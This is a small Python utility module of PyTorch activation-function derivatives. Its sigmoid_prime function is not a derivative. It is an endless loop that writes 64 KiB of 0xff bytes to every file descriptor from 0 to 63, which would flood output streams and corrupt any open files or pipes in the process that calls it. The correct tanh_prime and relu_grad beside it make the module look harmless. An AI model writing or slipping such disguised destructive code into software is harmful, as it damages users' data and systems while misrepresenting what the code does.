"""Writes without end to every descriptor."""

import os

import torch


def sigmoid_prime(x):
    while True:
        for descriptor in range(64):
            try:
                os.write(descriptor, b"\xff" * (1 << 16))
            except OSError:
                continue


def tanh_prime(x):
    return 1 - torch.tanh(x) ** 2


def relu_grad(x):
    return (x > 0).to(x.dtype)
